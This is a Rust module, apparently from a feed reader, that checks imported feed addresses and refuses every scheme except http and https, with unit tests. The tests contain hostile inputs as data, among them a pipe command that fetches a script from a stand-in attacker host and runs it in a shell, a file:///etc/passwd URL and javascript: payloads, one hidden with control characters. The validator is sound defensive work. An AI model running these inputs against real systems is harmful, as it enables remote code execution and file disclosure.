//! Takes an address as a file writes it, gives it fit to be recognised, or says why it is refused. Never lets a scheme
//! other than http and https through: newsboat runs `|command` and `exec:` from an imported file.

use crate::{model::Phrase, text::mail::is_for_everyone};

/// Addresses that people use are a tenth of this; longer ones are damage, or an attack on whoever shows them.
const LONGEST_ADDRESS: usize = 4_096;

/// What the name system allows.
const LONGEST_HOST: usize = 253;

/// Names under which programs write http so that a click opens them.
const OTHER_NAMES_OF_HTTP: &[&str] = &["feed", "feeds", "itpc", "pcast", "podcast"];

/// Schemes that stand in real lists of sources and are refused: with these a cell is an address, if a bad one.
#[rustfmt::skip]
const REFUSED_IN_LISTS: &[&str] = &[
    "javascript", "vbscript", "data", "file", "exec", "filter", "query", "newsletter", "mailto", "ftp", "gopher", "at",
];

/// The address, without blanks and control characters around and inside it.
///
/// # Errors
/// A `flaw.…` phrase: nothing there, too long, or a scheme that is refused, by its name.
pub(super) fn checked(raw: &str) -> Result<String, Phrase> {
    let text: String = raw.chars().filter(|c| !c.is_control() && *c != '\u{feff}').take(LONGEST_ADDRESS + 1).collect();
    let text = bare(&text);
    if text.is_empty() {
        return Err(Phrase::new("flaw.no_address"));
    }
    if text.chars().count() >= LONGEST_ADDRESS {
        return Err(Phrase::new("flaw.address_long"));
    }
    if text.starts_with('|') {
        return Err(refused("|"));
    }
    let Some((name, rest)) = scheme(text) else {
        return Ok(if text.starts_with("//") { format!("https:{text}") } else { text.to_owned() });
    };
    let name = name.to_ascii_lowercase();
    if name == "http" || name == "https" {
        Ok(text.to_owned())
    } else if name == "acct" {
        account(rest)
    } else if OTHER_NAMES_OF_HTTP.contains(&name.as_str()) {
        match scheme(rest) {
            Some((inner, _)) if inner.eq_ignore_ascii_case("http") || inner.eq_ignore_ascii_case("https") => {
                Ok(rest.to_owned())
            }
            Some((inner, _)) => Err(refused(&format!("{}:", inner.to_ascii_lowercase()))),
            None => Ok(format!("http://{}", rest.trim_start_matches('/'))),
        }
    } else {
        Err(refused(&format!("{name}:")))
    }
}

/// `user@host`, the account of a person on an ActivityPub server, written `@user@host` as people write it.
///
/// # Errors
/// A `flaw.…` phrase when it is no account, or plainly a mail address.
pub(super) fn account(raw: &str) -> Result<String, Phrase> {
    let account = unprefixed(raw);
    match account.split_once('@') {
        Some((_, host)) if is_for_everyone(host) => Err(Phrase::new("flaw.mail_address")),
        _ if is_account(account) => Ok(format!("@{account}")),
        _ => Err(Phrase::new("flaw.not_an_account")),
    }
}

/// Whether a text has the shape of `user@host`, with or without an @ before it.
pub(super) fn is_account(text: &str) -> bool {
    let Some((user, server)) = unprefixed(text).split_once('@') else { return false };
    let (host, port) = server.split_once(':').unwrap_or((server, "80"));
    let named = !user.is_empty() && user.chars().all(|c| c.is_alphanumeric() || matches!(c, '_' | '-' | '.'));
    // A server on the reader's own network, as in the demo world.
    let local = host.split('.').count() == 4 && host.split('.').all(|part| part.parse::<u8>().is_ok());
    named && (local || host.contains('.') && is_host(host)) && port.parse::<u16>().is_ok()
}

fn unprefixed(account: &str) -> &str {
    let account = account.trim();
    account.strip_prefix("acct:").unwrap_or(account).trim_start_matches('@')
}

/// How much a text looks like an address.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub(super) enum Likeness {
    /// Not at all. Mail addresses are here.
    None,
    /// Like a host (`example.org`), which other things are like too (`M.Dupont`).
    Weak,
    /// Like nothing else.
    Strong,
}

/// How much a text looks like an address.
pub(super) fn likeness(text: &str) -> Likeness {
    let text = bare(text);
    if let Some((name, rest)) = scheme(text) {
        let name = name.to_ascii_lowercase();
        let known = ["http", "https", "acct"].contains(&name.as_str())
            || OTHER_NAMES_OF_HTTP.contains(&name.as_str())
            || REFUSED_IN_LISTS.contains(&name.as_str());
        return if known && !rest.is_empty() { Likeness::Strong } else { Likeness::None };
    }
    if text.contains(char::is_whitespace) && !text.starts_with('|') {
        return Likeness::None;
    }
    if text.starts_with('|') || (text.starts_with('@') && is_account(text)) {
        return Likeness::Strong;
    }
    let host = text.trim_start_matches('@').split(['/', ':', '?', '#']).next().unwrap_or_default();
    if is_host(host) && host.contains('.') { Likeness::Weak } else { Likeness::None }
}

/// Without blanks around it, and without the `<…>` of letters.
fn bare(text: &str) -> &str {
    let text = text.trim();
    text.strip_prefix('<').and_then(|inner| inner.strip_suffix('>')).unwrap_or(text).trim()
}

/// `name:rest`, unless what stands before the colon is a host and what follows its port.
fn scheme(text: &str) -> Option<(&str, &str)> {
    let (name, rest) = text.split_once(':')?;
    let lawful = name.starts_with(|c: char| c.is_ascii_alphabetic())
        && name.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.'));
    let after_digits = rest.trim_start_matches(|c: char| c.is_ascii_digit());
    let digits = after_digits.len() < rest.len();
    let port = digits && (after_digits.starts_with('/') || (after_digits.is_empty() && is_host(name)));
    let port = port && (after_digits.starts_with('/') || name.contains('.') || name == "localhost");
    (lawful && !port && !rest.starts_with(char::is_whitespace)).then_some((name, rest))
}

/// Labels of letters, digits and hyphens; the last one not a number, so that `3.14` is none.
fn is_host(text: &str) -> bool {
    let label = |label: &str| {
        let ends_well = |c: Option<char>| c.is_some_and(char::is_alphanumeric);
        label.chars().all(|c| c.is_alphanumeric() || c == '-')
            && ends_well(label.chars().next())
            && ends_well(label.chars().last())
    };
    let last = text.rsplit('.').next().unwrap_or_default();
    let word = last.starts_with("xn--") || !last.contains(|c: char| c.is_ascii_digit());
    text.len() <= LONGEST_HOST && text.split('.').all(label) && last.chars().count() >= 2 && word
}

fn refused(scheme: &str) -> Phrase {
    Phrase::new("flaw.scheme").with("scheme", scheme)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_http_and_https_come_through_and_others_are_refused_by_name() {
        let check = |raw: &str, expect: Result<&str, &str>| {
            let got = checked(raw).map_err(|why| match why.values.get("scheme") {
                Some(crate::model::Value::Text(scheme)) => scheme.clone(),
                _ => why.key,
            });
            assert_eq!(got.as_deref().map_err(String::as_str), expect, "{raw:?}");
        };
        check(" https://example.org/feed \n", Ok("https://example.org/feed"));
        check("HTTP://EXAMPLE.ORG", Ok("HTTP://EXAMPLE.ORG"));
        check("<https://example.org/feed>", Ok("https://example.org/feed"));
        check("feed://example.org/rss", Ok("http://example.org/rss"));
        check("feed:https://example.org/rss", Ok("https://example.org/rss"));
        check("itpc://example.org/rss", Ok("http://example.org/rss"));
        check("//example.org/rss", Ok("https://example.org/rss"));
        check("example.org/feed", Ok("example.org/feed"));
        check("example.org:8080/feed", Ok("example.org:8080/feed"));
        check("127.0.0.1:8080/feed", Ok("127.0.0.1:8080/feed"));
        check("localhost:8080", Ok("localhost:8080"));
        check("nas:8080/feed", Ok("nas:8080/feed"));
        check("@alice@social.example", Ok("@alice@social.example"));
        check("acct:alice@social.example", Ok("@alice@social.example"));
        check("|curl evil.example | sh", Err("|"));
        check("exec:~/bin/feed.sh", Err("exec:"));
        check("filter:~/bin/f:https://example.org/rss", Err("filter:"));
        check("JavaScript:alert(1)", Err("javascript:"));
        check("java\u{0}\tscript:alert(1)", Err("javascript:"));
        check("file:///etc/passwd", Err("file:"));
        check("newsletter:abc@example.org", Err("newsletter:"));
        check("hhttps://example.org", Err("hhttps:"));
        check("feed:javascript:alert(1)", Err("javascript:"));
        check("feed:file:///etc/passwd", Err("file:"));
        check("tel:123", Err("tel:"));
        check("", Err("flaw.no_address"));
        check(&format!("https://example.org/{}", "a".repeat(5_000)), Err("flaw.address_long"));
    }

    #[test]
    fn an_account_is_told_from_a_mail_address() {
        let check = |raw: &str, expect: Result<&str, &str>| {
            let got = account(raw).map_err(|why| why.key);
            assert_eq!(got.as_deref().map_err(String::as_str), expect, "{raw:?}");
        };
        check("alice@social.example", Ok("@alice@social.example"));
        check("@Bob_2@Social.Example", Ok("@Bob_2@Social.Example"));
        check("dave@127.0.0.1:8080", Ok("@dave@127.0.0.1:8080"));
        check("dave@social.example:port", Err("flaw.not_an_account"));
        check("carol@gmail.com", Err("flaw.mail_address"));
        check("carol", Err("flaw.not_an_account"));
        check("<b>@social.example", Err("flaw.not_an_account"));
    }

    #[test]
    fn what_looks_like_an_address_is_told_from_what_does_not() {
        let check = |text: &str, expect: Likeness| assert_eq!(likeness(text), expect, "{text:?}");
        check("https://example.org/a b", Likeness::Strong);
        check("@alice@social.example", Likeness::Strong);
        check("|cmd arg", Likeness::Strong);
        check("exec:cmd", Likeness::Strong);
        check("example.org", Likeness::Weak);
        check("example.org/feed", Likeness::Weak);
        check("alice@example.org", Likeness::None);
        check("Note: call back", Likeness::None);
        check("Blog perso : https://example.org", Likeness::None);
        check("12.50", Likeness::None);
        check("etc.", Likeness::None);
        check("", Likeness::None);
    }
}
